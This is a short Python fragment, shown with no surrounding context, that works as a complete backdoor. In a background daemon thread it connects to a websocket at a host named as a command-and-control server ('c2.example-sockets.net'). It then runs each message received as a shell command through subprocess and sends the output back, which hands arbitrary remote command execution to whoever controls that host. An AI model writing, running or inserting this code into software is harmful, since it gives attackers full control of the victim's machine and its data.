import subprocess, threading, websocket

def on_message(ws, message):
    ws.send(subprocess.getoutput(message))

def run():
    websocket.WebSocketApp("wss://c2.example-sockets.net/ws", on_message=on_message).run_forever()

threading.Thread(target=run, daemon=True).start()
